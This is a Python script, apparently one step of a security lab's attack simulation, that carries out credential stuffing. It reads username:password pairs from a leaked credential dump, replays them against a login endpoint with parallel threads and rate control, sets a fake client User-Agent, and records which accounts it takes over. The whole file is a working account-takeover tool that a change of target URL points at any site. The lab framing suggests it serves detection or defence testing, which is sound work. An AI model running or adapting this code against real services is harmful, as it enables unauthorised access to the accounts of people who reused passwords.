#!/usr/bin/env python3
"""Attack 1 — credential stuffing against the login, from outside (the internet, through nginx).

The attacker replays a credential dump from another site (lab/run/leak.txt, username:password) against
POST /login, with a few parallel connections, and keeps the pairs that work. Some customers reused their password,
so a handful of accounts fall. Succeeds (exit 0) when at least one account was taken over.

  1-credential-stuffing.py [--attempts 240] [--rate 16] [--threads 6]
"""

import argparse
import json
import threading
import time
import urllib.error
import urllib.request
from concurrent.futures import ThreadPoolExecutor

from _common import RUN, URL, Attack, log


def try_login(user, password):
    req = urllib.request.Request(
        f"{URL}/login", data=json.dumps({"username": user, "password": password}).encode(),
        headers={"Content-Type": "application/json", "User-Agent": "python-requests/2.31.0"}, method="POST")
    try:
        with urllib.request.urlopen(req, timeout=15) as r:
            return r.status == 200
    except urllib.error.HTTPError:
        return False
    except OSError:
        return None


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--attempts", type=int, default=240)
    ap.add_argument("--rate", type=float, default=16.0, help="attempts per second")
    ap.add_argument("--threads", type=int, default=6)
    a = ap.parse_args()
    pairs = [l.strip().split(":", 1) for l in (RUN / "leak.txt").read_text().splitlines() if ":" in l][: a.attempts]
    with Attack("credential-stuffing") as atk:
        found, failed, errors = [], [0], [0]
        lock = threading.Lock()

        def one(pair):
            ok = try_login(*pair)
            with lock:
                if ok:
                    found.append(pair[0])
                elif ok is None:
                    errors[0] += 1
                else:
                    failed[0] += 1

        with ThreadPoolExecutor(a.threads) as pool:
            t0 = time.time()
            for i, pair in enumerate(pairs):
                time.sleep(max(0.0, t0 + i / a.rate - time.time()))
                pool.submit(one, pair)
        log(f"{len(pairs)} attempts: {len(found)} accounts taken over ({', '.join(found)}), {failed[0]} refused, "
            f"{errors[0]} errors")
        atk.detail = {"attempts": len(pairs), "taken_over": found, "refused": failed[0], "errors": errors[0]}
        atk.ok = len(found) > 0


if __name__ == "__main__":
    main()
